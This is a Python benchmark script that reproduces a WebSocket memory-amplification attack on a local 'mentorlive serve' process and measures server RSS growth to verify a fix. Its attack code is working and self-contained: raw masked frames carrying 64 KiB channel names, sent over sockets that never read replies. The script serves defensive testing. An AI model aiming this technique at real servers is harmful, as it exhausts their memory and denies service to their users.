"""The `/ws` amplification attack of issue 11, against a real `mentorlive serve` process: its RSS growth.

    .venv/bin/python -m bench.ws_attack                   # this checkout
    .venv/bin/python -m bench.ws_attack --root /tmp/old   # another source tree (e.g. `git archive` of main)

SOCKETS signed-out sockets connect over raw TCP (a tiny receive buffer, never read), then each
sends FRAMES subscribe frames whose channel name is 64 KiB. Before the hardening every error reply
quoted the whole name into a 256-message queue per socket (575 MiB in 7.5 s for 40 sockets).
The same run first sends the same frames over sockets that read every reply (the baseline),
then the attack, and prints the server's RSS growth for each and the ratio to the baseline.
`[hub] max_anonymous_per_address` is raised to SOCKETS for the run: the worst case, as if every
socket came from its own address (from one address all but 8 would get HTTP 429).
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import json
import os
import secrets
import signal
import socket
import struct
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

import aiohttp

ROOT = Path(__file__).resolve().parent.parent
SOCKETS = 40
FRAMES = 256
NAME_BYTES = 64 * 1024 - 100


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise RuntimeError(f"no VmRSS for {pid}")


async def start_server(root: Path, folder: Path, port: int, **env: str) -> asyncio.subprocess.Process:
    """`mentorlive serve` from `root` on a fresh SQLite file in `folder`; returns once /healthz answers."""
    environ = {
        **os.environ,
        "MENTORLIVE_DATABASE_URL": f"sqlite+aiosqlite:///{folder / 'attack.db'}",
        "MENTORLIVE_WEB_SECRET": "attack-secret",
        "MENTORLIVE_RECORDINGS_DIR": str(folder / "rec"),
        "MENTORLIVE_PAYMENTS_KEY_SECRET": "attack",
        "MENTORLIVE_PAYMENTS_WEBHOOK_SECRET": "attack",
        "PYTHONPATH": str(root),
        **env,
    }
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "web.cli",
        "serve",
        "--host",
        "127.0.0.1",
        "--port",
        str(port),
        env=environ,
        cwd=root,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
        start_new_session=True,
    )
    async with aiohttp.ClientSession() as http:
        for _ in range(600):
            with contextlib.suppress(aiohttp.ClientError):
                async with http.get(f"http://127.0.0.1:{port}/healthz") as response:
                    if response.status == 200:
                        return process
            if process.returncode is not None:
                break
            await asyncio.sleep(0.1)
    await stop_server(process)
    raise RuntimeError("server did not start")


async def stop_server(process: asyncio.subprocess.Process) -> None:
    with contextlib.suppress(ProcessLookupError):
        os.killpg(process.pid, signal.SIGTERM)
    try:
        await asyncio.wait_for(process.wait(), 15)
    except TimeoutError:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        await process.wait()


def _frame(text: str) -> bytes:
    """One masked client text frame (RFC 6455)."""
    payload = text.encode()
    mask = secrets.token_bytes(4)
    length = len(payload)
    if length < 126:
        header = struct.pack("!BB", 0x81, 0x80 | length)
    elif length < 1 << 16:
        header = struct.pack("!BBH", 0x81, 0x80 | 126, length)
    else:
        header = struct.pack("!BBQ", 0x81, 0x80 | 127, length)
    # XOR with the repeated mask through int arithmetic: fast enough for 64 KiB frames.
    repeated = (mask * (length // 4 + 1))[:length]
    masked = (int.from_bytes(payload, "big") ^ int.from_bytes(repeated, "big")).to_bytes(length, "big")
    return header + mask + masked


async def _upgrade(port: int, receive_buffer: int | None) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if receive_buffer is not None:
        # Set before connect so the window the server sees stays small: it really cannot send.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    sock.setblocking(False)
    await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port))
    reader, writer = await asyncio.open_connection(sock=sock, limit=1 << 20)
    key = base64.b64encode(secrets.token_bytes(16)).decode()
    writer.write(
        f"GET /ws HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
    )
    await writer.drain()
    head = await reader.readuntil(b"\r\n\r\n")
    if not head.startswith(b"HTTP/1.1 101"):
        writer.close()
        raise ConnectionRefusedError(head.split(b"\r\n", 1)[0].decode())
    return reader, writer


async def _drain_replies(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(Exception):
        while await reader.read(1 << 16):
            pass


class Attack:
    """Signed-out sockets sending huge subscribes; `close()` ends them (after the RSS is read)."""

    def __init__(self) -> None:
        self.writers: list[asyncio.StreamWriter] = []
        self.readers: list[asyncio.Task[None]] = []
        self.refused = 0

    async def run(self, port: int, sockets: int, frames: int, *, read: bool) -> None:
        frame = _frame(json.dumps({"type": "subscribe", "channel": "sessions:" + "x" * NAME_BYTES}))
        for _ in range(sockets):
            try:
                reader, writer = await _upgrade(port, None if read else 4096)
            except ConnectionRefusedError:
                self.refused += 1
                continue
            self.writers.append(writer)
            if read:
                self.readers.append(asyncio.create_task(_drain_replies(reader)))

        async def send(writer: asyncio.StreamWriter) -> None:
            with contextlib.suppress(ConnectionError):
                for _ in range(frames):
                    writer.write(frame)
                    await writer.drain()

        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(asyncio.gather(*(send(w) for w in self.writers)), 60)
        # Let the server process what it received and fill (or drop) its queues.
        await asyncio.sleep(1.5)

    async def close(self) -> None:
        for task in self.readers:
            task.cancel()
        for writer in self.writers:
            writer.transport.abort()
        await asyncio.gather(*self.readers, return_exceptions=True)


@dataclass
class Row:
    phase: str
    sockets_in: int
    rss_mib: float
    growth_mib: float
    vs_baseline: float


async def measure(root: Path, sockets: int = SOCKETS, frames: int = FRAMES) -> list[Row]:
    """Baseline (sockets that read) then the attack (sockets that never read), each on a fresh server."""
    rows: list[Row] = []
    baseline_growth = 0.0
    for phase, read in (("readers (baseline)", True), ("never-reading attackers", False)):
        with tempfile.TemporaryDirectory() as folder:
            port = free_port()
            server = await start_server(root, Path(folder), port, MENTORLIVE_HUB_MAX_ANONYMOUS_PER_ADDRESS=str(sockets))
            try:
                await asyncio.sleep(1.0)
                before = rss_mib(server.pid)
                started = time.perf_counter()
                attack = Attack()
                try:
                    await attack.run(port, sockets, frames, read=read)
                    after = max(rss_mib(server.pid), before)
                finally:
                    await attack.close()
                got_in = len(attack.writers)
                growth = after - before
                baseline_growth = baseline_growth or max(growth, 1.0)
                rows.append(
                    Row(
                        f"{phase}, {time.perf_counter() - started:.1f} s",
                        got_in,
                        round(after, 1),
                        round(growth, 1),
                        round(growth / baseline_growth, 2),
                    )
                )
            finally:
                await stop_server(server)
    return rows


def table(rows: list[Row]) -> str:
    lines = [
        "| phase | sockets in | server RSS MiB | growth MiB | growth vs baseline |",
        "| --- | ---: | ---: | ---: | ---: |",
    ]
    lines += [f"| {r.phase} | {r.sockets_in} | {r.rss_mib} | {r.growth_mib} | {r.vs_baseline} |" for r in rows]
    return "\n".join(lines)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--root", type=Path, default=ROOT, help="source tree to serve (default: this checkout)")
    parser.add_argument("--sockets", type=int, default=SOCKETS)
    parser.add_argument("--frames", type=int, default=FRAMES)
    args = parser.parse_args()
    print(table(asyncio.run(measure(args.root.resolve(), args.sockets, args.frames))))


if __name__ == "__main__":
    main()
